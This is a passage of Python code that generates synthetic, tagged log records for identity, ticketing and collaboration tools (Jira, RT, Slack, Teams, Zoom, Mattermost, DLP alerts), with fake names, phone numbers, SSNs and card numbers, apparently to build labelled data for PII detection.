                     x.pick([" (on-call)", ""]), ". Callback number on file: ", P(x.phone()))


def pam_neg(x):
    t = x.ts()
    k = x.num(0, 3)
    if k == 0:
        return Rec().add(iso(t), " [INFO]  ", x.pick([
            'core: successful mount: namespace="" path=secret/ type=kv version=""',
            "expiration: revoked lease: lease_id=auth/approle/login/h8" + x.hexs(20),
            "core: post-unseal setup complete", 'rollback: starting rollback manager']))
    if k == 1:
        obj = {"code": "TC000I", "event": "cert.create", "cert_type": "user", "identity": {"user": x.pick(["bot-ci-deployer", "bot-argocd"]),
               "roles": ["bot-ci"], "logins": ["-teleport-internal-join"]}, "time": iso(t), "uid": x.uuid()}
        return Rec().doc("json", jx(obj))
    if k == 2:
        return Rec().add(t.strftime("%d/%m/%Y %H:%M:%S"), " CACPM410I ", x.pick([
            "Changing password for account svc_backup on target srv-bkp-02 succeeded",
            "Verifying password for account Administrator (Windows-DomainAdmins) succeeded",
            "Plugin WinDomain for platform 'Hudson-Windows' loaded"]), ".")
    return Rec().add("Access request #", str(x.num(1000, 9999)), " for safe '", x.pick(["Jenkins-Prod", "Cassandra-Ops"]),
                     "' auto-approved by policy 'Madison Ops - Standard Change'. Status: ", x.pick(NL.STATUS_UI))


# ============================================================ 5. itsm_tickets
def _jira_user(x, p):
    return {"self": "https://example.atlassian.net/rest/api/2/user?accountId=" + x.hexs(24), "accountId": "5b10ac" + x.hexs(18),
            "emailAddress": E(x.email(p)), "displayName": N(disp(x, p)), "active": True, "timeZone": "Europe/Madrid"}


def itsm_jira_webhook(x):
    a, b, c = x.person(), x.person(), x.person()
    key = f"ITSD-{x.num(100, 9999)}"
    summ = x.pick([JS("Laptop replacement for ", N(c.full())), JS("Reset MFA for ", N(c.g)), "VPN drops every 10 minutes",
                   JS("Onboarding: ", N(c.full()), " starts Monday")])
    obj = {"timestamp": epoch(x.ts()) * 1000, "webhookEvent": "jira:issue_updated", "issue_event_type_name": "issue_assigned",
           "user": _jira_user(x, a), "issue": {"id": str(x.num(10000, 99999)), "key": key,
           "fields": {"summary": summ, "reporter": _jira_user(x, c), "assignee": _jira_user(x, b), "status": {"name": x.pick(NL.STATUS_UI[:7])}}},
           "changelog": {"id": str(x.num(10000, 99999)), "items": [{"field": "assignee", "fieldtype": "jira",
                         "from": "5b10ac" + x.hexs(18), "fromString": N(disp(x, a)), "to": "5b10ac" + x.hexs(18), "toString": N(disp(x, b))}]}}
    return Rec().doc("json", jx(obj, x.pick([None, 2])))


def itsm_mail_handler(x):
    p = x.person()
    body = x.pick([["Hi team, my phone number changed to ", P(x.phone()), ", please update. Thanks, ", N(p.g)],
                   ["Hallo, bitte Rückruf unter ", P(x.phone("DE")), ". Gruß ", N(p.g)],
                   ["Bonjour, merci de rappeler ", N(p.full()), " au ", P(x.phone("FR"))],
                   ["My SSN on the HR form is wrong, last four should be ", S(x.ssn("last4")), ". - ", N(p.g)]])
    return Rec().add(logts(x.ts()), "+0000 mail-handler INFO [c.a.s.p.m.processor.CommentProcessor] Created comment on ITSD-",
                     str(x.num(100, 9999)), ' from "', N(x.pick([p.lf(), p.full()])), '" <', E(x.email(p)), '>: "', body, '"')


def itsm_rt(x):
    p, a = x.person(), x.person()
    pid, t = str(x.num(1000, 99999)), x.ts()
    pre = [f"[{pid}] [", t.strftime("%a %b %d %H:%M:%S %Y"), "] "]
    tk = str(x.num(1000, 99999))
    r = Rec().add(pre, "[info]: Ticket ", tk, " created in queue '", x.pick(["IT", "Facilities", "HR-Confidential"]), "' by ",
                  x.pick([E(x.email(p)), N(x.acct(p))]), " (/opt/rt5/sbin/../lib/RT/Ticket.pm:565)")
    if x.chance(0.6):
        r.add("\n", pre, "[info]: Ticket ", tk, ": owner changed from Nobody to ", N(x.acct(a)), " by ", N(x.acct(a)),
              " (/opt/rt5/sbin/../lib/RT/Ticket.pm:2891)")
    if x.chance(0.4):
        r.add("\n", pre, "[warning]: Couldn't load user '", N(x.acct(x.person())), "': Couldn't find row (/opt/rt5/sbin/../lib/RT/Interface/Email.pm:1270)")
    return r


def itsm_jira_csv(x):
    r = Rec().add("Summary,Issue key,Issue id,Issue Type,Status,Priority,Assignee,Reporter,Created,Comment\n")
    for i in range(x.num(1, 2)):
        a, b, c = x.person(), x.person(), x.person()
        cm = [x.ts().strftime("%d/%b/%y %I:%M %p"), ";", N(x.acct(c)), ";",
              x.pick([["Called ", N(c.g), " back on ", P(x.phone()), ", issue resolved"],
                      ["Handing over to ", N(a.full()), " for the night shift"],
                      ["Llamé a ", N(b.full()), ", no contesta. Volver a llamar al ", P(x.phone("ES"))],
                      ["HR: SSN on file for ", N(c.full()), " is ", S(x.ssn(x.pick(["dash", "space"]))), ", please correct in Workday"],
                      ["Customer read out card ", C(x.card()), " on the phone - removed from ticket by ", N(a.g)]])]
        r.add("\n" if i else "", csv_row([x.pick(["Printer on 3F offline", "Cannot access payroll", "New starter kit"]),
              f"ITSD-{x.num(100, 9999)}", str(x.num(10000, 99999)), "Service Request", x.pick(["Resolved", "In Progress"]),
              "Medium", [N(x.acct(a))], [N(x.acct(b))], x.ts().strftime("%d/%b/%y %I:%M %p"), cm]))
    return r


def itsm_access_log(x):
    p, q = x.person(), x.person()
    acct = x.acct(p)
    jql = x.pick([["assignee%20%3D%20%22", N(pct(q.full())), "%22%20AND%20status%20%3D%20Open"],
                  ["summary%20~%20%22", N(pct(q.lf())), "%22"],
                  ["reporter%20in%20(", N(x.acct(q)), ")%20ORDER%20BY%20created"],
                  ["text%20~%20%22", E(pct(x.email(q))), "%22"]])
    return Rec().add(I(x.ip(0.15)), " ", f"{x.num(100, 1439)}x{x.num(1000, 99999)}x{x.num(1, 9)}", " ", N(acct), " [",
                     x.ts().strftime("%d/%b/%Y:%H:%M:%S +0000"), '] "GET /rest/api/2/search?jql=', jql, ' HTTP/1.1" 200 ',
                     str(x.num(200, 90000)), " ", str(x.num(5, 900)), ' "https://jira.example.com/issues/" "Mozilla/5.0 (X11; Linux x86_64) '
                     'Gecko/20100101 Firefox/133.0" "', x.hexs(6), '"')


def itsm_zammad(x):
    p, a = x.person(), x.person()
    return Rec().add("I, [", iso(x.ts(), 6, ""), " #", str(x.num(100, 9999)), "]  INFO -- : Ticket ", str(x.num(10000, 99999)),
                     " customer lookup -> #<User id: ", str(x.num(2, 9999)), ', login: "', N(x.acct(p)), '", firstname: "', N(p.g),
                     '", lastname: "', N(p.f), '", email: "', E(x.email(p)), '", phone: "', P(x.phone()), '", mobile: "", ',
                     "organization_id: ", str(x.num(1, 90)), ", active: true>\nI, [", iso(x.ts(), 6, ""), " #", str(x.num(100, 9999)),
                     "]  INFO -- : Ticket owner set to ", N(a.full()), " (", N(x.acct(a)), '), group "',
                     x.pick(["2nd Level", "Visa & Travel"]), '"; title: "Visa letter for ', N(p.slash()), '"')


def itsm_approval(x):
    a, b, c = x.person(), x.person(), x.person()
    k = x.num(0, 2)
    if k == 0:
        return Rec().add("Approval ITSD-", str(x.num(100, 9999)), ' "Change: rotate TLS certs on ', x.pick(["orion", "hermes-gw"]),
                         '" approved by ', N(a.full()), " (2/2 approvers) | next assignee: ", N(b.full()), " \u2192 ", N(c.full()))
    if k == 1:
        jp = x.person(script=True, lang="ja")
        return Rec().add("[コメント] ", N(jp.nat()), " 様より電話あり (", P(x.phone("JP")), ")。担当: ", N(a.full()))
    return Rec().add("SLA breach warning on ITSD-", str(x.num(100, 9999)), ": assigned to ", N(x.acct(a)), "; requester ",
                     N(b.up()), " (", E(x.email(b)), ") waiting ", str(x.num(2, 30)), "h; escalated to @", N(x.acct(c)))


def itsm_neg(x):
    k = x.num(0, 3)
    if k == 0:
        obj = {"timestamp": x.num(1700000000, 1799999999) * 1000, "webhookEvent": "jira:issue_updated",
               "user": {"accountId": "557058:" + x.uuid(), "displayName": "Automation for Jira", "accountType": "app"},
               "issue": {"key": f"ITSD-{x.num(100, 9999)}", "fields": {"summary": x.pick([
                   "Upgrade Jenkins on Madison cluster", "Cassandra repair job failed", "Victoria office Wi-Fi outage",
                   "Renew certificate for hermes.example.com"]), "status": {"name": x.pick(NL.STATUS_UI[:7])}}},
               "changelog": {"items": [{"field": "status", "fromString": "To Do", "toString": "In Progress"}]}}
        return Rec().doc("json", jx(obj, x.pick([None, 2])))
    if k == 1:
        return Rec().add(f"[{x.num(1000, 99999)}] [", x.ts().strftime("%a %b %d %H:%M:%S %Y"), "] [info]: ",
                         x.pick(["RT::Scrip 7 On Create Autoreply To Requestors skipped for RT_System",
                                 "Ticket 4521: status changed from new to resolved by RT_System",
                                 "Sent email to the queue watchers of 'Facilities' (RT::Action::SendEmail)"]))
    if k == 2:
        return Rec().add("SLA breach warning on ITSD-", str(x.num(100, 9999)), ": ", x.pick(NL.STATUS_UI), " for ",
                         str(x.num(2, 48)), "h; escalated to group L2 Service Desk (", x.pick(NL.PLACES_LIKE_NAMES), ")")
    return Rec().add("Approval ITSD-", str(x.num(100, 9999)), ' "Change: patch Hudson agents" auto-approved by CAB policy; next: ',
                     x.pick(NL.UI_OTHER_LANG))


# ============================================================ 6. collab_audit
def _slack_user(x, p):
    return {"id": "W0" + x.hexs(8).upper(), "name": N(disp(x, p)), "email": E(x.email(p)), "team": "T0" + x.hexs(8).upper()}


def collab_slack(x):
    p = x.person()
    act = x.pick(["user_login", "file_downloaded", "user_channel_join", "role_change_to_admin", "user_session_invalidated"])
    ent = {"type": "user", "user": _slack_user(x, x.person())} if act.startswith("role") else \
          {"type": "file", "file": {"id": "F0" + x.hexs(8).upper(), "name": x.pick(["Q3-forecast.xlsx", "offer-letter.pdf"]),
                                    "filetype": "pdf", "title": "Offer letter"}} if act == "file_downloaded" else \
          {"type": "workspace", "workspace": {"id": "T0" + x.hexs(8).upper(), "name": "Acme Corp", "domain": "acme-corp"}}
    obj = {"id": x.uuid(), "date_create": epoch(x.ts()), "action": act, "actor": {"type": "user", "user": _slack_user(x, p)},
           "entity": ent, "context": {"location": {"type": "enterprise", "id": "E0" + x.hexs(8).upper(), "name": "Acme Corp",
                                                   "domain": "acme-corp"},
                                      "ua": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 Chrome/131.0.6778.86 Safari/537.36",
                                      "ip_address": I(x.ip(0.25)), "session_id": str(x.idnum(13))}}
    esc = jesc_ascii if x.chance(0.3) else None
    if esc:
        return Rec().doc("json", jx(obj, None, esc, (", ", ": ")))
    return Rec().doc("json", jx(obj, x.pick([None, 2])))


def collab_ual_csv(x):
    a, b = x.person(), x.person()
    upn = x.email(a, "contoso.example")
    op = x.pick(["MemberAdded", "MessageEditedHasLink", "TeamCreated", "FileDownloaded"])
    audit = {"CreationTime": iso(x.ts(), 0, ""), "Id": x.uuid(), "Operation": op, "OrganizationId": x.uuid(), "RecordType": 25,
             "UserKey": x.uuid(), "UserType": 0, "Version": 1, "Workload": "MicrosoftTeams", "ClientIP": I(x.ip(0.2)),
             "UserId": E(upn), "Members": [{"DisplayName": N(disp(x, b)), "Role": 1, "UPN": E(x.email(b, "contoso.example"))}],
             "TeamName": x.pick(NL.CODENAMES), "TeamGuid": x.uuid()}
    r = Rec()
    if x.chance(0.6):
        r.add("CreationDate,UserIds,Operations,AuditData\n")
    r.add(iso(x.ts(), 7), ",", E(upn), ",", op, ",")
    r.doc("csvjson", ['"'] + encp(jx(audit), lambda s: s.replace('"', '""')) + ['"'])
    return r


def collab_zoom(x):
    r = Rec()
    k = x.chance(0.5)
    r.add("Time,Operator,Category Type,Action,Operation Detail\n" if k else "Time,User,Type,Version,IP Address,Country/Region,Operating System\n")
    for i in range(x.num(1, 3)):
        a, b = x.person(), x.person()
        t = x.ts().strftime("%m/%d/%Y %H:%M:%S")
        if k:
            det = [x.pick(["Update User: ", "Add User: "]), N(b.full()), " (", E(x.email(b)), ")",
                   x.pick([[" - Phone Number: ", P(x.phone())], [" - Department: Finance"], [" - User Type: Licensed"]])]
            row = [t, [E(x.email(a))], "User", x.pick(["Update", "Add"]), det]
        else:
            row = [t, [E(x.email(a))], x.pick(["Sign in", "Sign out"]), "6.2.11 (4200)", [I(x.ip(0.2))],
                   x.pick(["Spain", "Japan", "Brazil"]), x.pick(["Windows", "Mac", "iOS"])]
        r.add("\n" if i else "", csv_row(row))
    return r


def collab_mattermost(x):
    p = x.person()
    if x.chance(0.5):
        obj = {"timestamp": logts(x.ts(), ".") + " Z", "level": "info", "msg": "User signed in", "caller": "app/login.go:212",
               "user_id": x.hexs(26), "username": N(x.acct(p)), "ip": I(x.ip(0.2))}
        return Rec().doc("json", jx(obj))
    q = x.person()
    obj = {"event_name": "updateUser", "status": "success",
           "actor": {"user_id": x.hexs(26), "session_id": x.hexs(26), "client": "mattermost-desktop/5.9.0", "ip_address": I(x.ip(0.2))},
           "event": {"parameters": {"user": {"username": N(x.acct(q)), "first_name": N(q.g), "last_name": N(q.f),
                                             "nickname": N(q.ga()), "email": E(x.email(q)), "position": "Nurse"}}},
           "meta": {"api_path": "/api/v4/users/" + x.hexs(26) + "/patch"}}
    return Rec().doc("json", jx(obj, x.pick([None, 2])))


def collab_dlp(x):
    a, b, c = x.person(), x.person(), x.person()
    k = x.num(0, 3)
    if k == 0:
        return Rec().add('DLP policy "PII - US SSN" matched message from ', N(a.full()), " in #hr-ops: \"@", N(x.acct(b)),
                         " can you fix ", N(c.g), "'s record, SSN ", S(x.ssn(x.pick(["dash", "space"]))), '"')
    if k == 1:
        return Rec().add('DLP policy "PCI" matched DM from ', E(x.email(a)), " to ", E(x.email(b)), ': "card is ',
                         C(x.card()), ' exp 09/28, thx ', N(b.g), '"')
    if k == 2:
        return Rec().add("Meeting link posted in #standup by @", N(x.acct(a)), ": https://example.zoom.us/j/", x.idnum(11), "?pwd=",
                         x.hexs(16), "&uname=", N(x.pick([pct, form])(b.full())))
    nat = x.person(script=True)
    return Rec().add("[Teams] ", N(nat.nat()), " handed the incident bridge over to ", N(a.full()), " (", P(x.phone()), ")")


def collab_neg(x):
    k = x.num(0, 3)
    t = x.ts()
    if k == 0:
        return Rec().doc("json", jx({"timestamp": logts(t, ".") + " Z", "level": "info", "msg": x.pick([
            "Server is initializing...", "Loaded system translations for 'de'", "Starting websocket hubs",
            "Plugin activated: com.mattermost.plugin-jenkins"]), "caller": "app/server.go:" + str(x.num(100, 999))}))
    if k == 1:
        return Rec().add("Time,Operator,Category Type,Action,Operation Detail\n", t.strftime("%m/%d/%Y %H:%M:%S"),
                         ",System,Account,Update,\"Account Settings Update: Meeting > Waiting Room: ",
                         x.pick(["On", "Off"]), '"')
    if k == 2:
        obj = {"id": x.uuid(), "date_create": epoch(t), "action": "workflow_published",
               "actor": {"type": "workflow", "workflow": {"id": "Wf0" + x.hexs(8).upper(),
                                                          "name": x.pick(["Georgia Onboarding Checklist", "Ada Room Booking", "Jenkins Release Notes"])}},
               "entity": {"type": "channel", "channel": {"id": "C0" + x.hexs(8).upper(), "name": x.pick(["victoria-launch", "proj-phoenix", "ops-hudson"]),
                                                         "privacy": "public"}}, "context": {"ua": ""}}
        return Rec().doc("json", jx(obj, x.pick([None, 2])))
    return Rec().add('DLP policy "PII - US SSN" evaluated ', str(x.num(100, 9000)), " messages in #", x.pick(["finance", "ops-madison"]),
                     ": 0 matches (", x.pick(NL.STATUS_UI), ")")


FAMILIES_A = [
    ("idp_signin", [idp_entra_json, idp_entra_csv, idp_keycloak, idp_duo, idp_shibboleth, idp_entra_audit],
     [idp_neg_mi, idp_neg_keycloak, idp_neg_duo_admin, idp_neg_shib]),
    ("mdm_devices", [mdm_jamf_log, mdm_jamf_xml, mdm_intune_csv, mdm_ime_cmtrace, mdm_jamf_webhook, mdm_wipe_prose],
     [mdm_neg_jamf, mdm_neg_intune, mdm_neg_cmtrace]),
    ("edr_alerts", [edr_falcon, edr_mde_csv, edr_graph_alert, edr_s1, edr_triage_text], [edr_neg_falcon, edr_neg_text]),
    ("pam_access", [pam_vault_audit, pam_teleport, pam_cyberark_csv, pam_secretserver, pam_itatslog, pam_request_prose], [pam_neg]),
    ("itsm_tickets", [itsm_jira_webhook, itsm_mail_handler, itsm_rt, itsm_jira_csv, itsm_access_log, itsm_zammad,
                      itsm_approval], [itsm_neg]),
    ("collab_audit", [collab_slack, collab_ual_csv, collab_zoom, collab_mattermost, collab_dlp], [collab_neg]),
]
